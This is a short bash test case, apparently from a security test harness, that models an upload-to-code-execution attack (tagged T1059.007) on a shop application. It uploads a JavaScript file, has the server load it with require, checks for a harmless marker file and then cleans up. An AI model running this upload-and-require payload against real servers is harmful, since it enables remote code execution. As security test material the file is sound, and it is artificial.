# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.007
about="an upload is loaded as code with require"
attack() {
	ask --data-binary 'require("fs").writeFileSync("/var/tmp/fidelity/marker/was-here", "x")' "$shop/upload?evil.js"
	inject 'return require("/srv/shop/data/uploads/evil.js")'
}
effect() { [ -e "$marker" ]; }
after() { rm -f $home/data/uploads/evil.js; }
